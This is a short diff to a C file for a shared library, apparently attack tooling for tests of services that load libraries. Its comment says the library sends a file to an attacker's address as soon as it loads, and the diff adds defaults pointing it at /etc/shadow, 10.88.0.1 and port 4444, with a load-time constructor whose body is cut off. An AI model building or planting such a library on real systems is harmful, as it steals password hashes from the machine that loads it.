@@ -1,12 +1,19 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
  * A library that does its harm as soon as it is loaded: it sends a file to an attacker's address.
- * The attacks on services that load libraries compile it, with PATH, ADDRESS and PORT.
+ * The attacks on services that load libraries compile it, with PATH, ADDRESS and
+ * PORT of their own.
  */
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <sys/socket.h>
 #include <unistd.h>
+
+#ifndef PATH
+#define PATH "/etc/shadow"
+#define ADDRESS "10.88.0.1"
+#define PORT 4444
+#endif
 
 __attribute__((constructor)) static void send_file(void)
 {
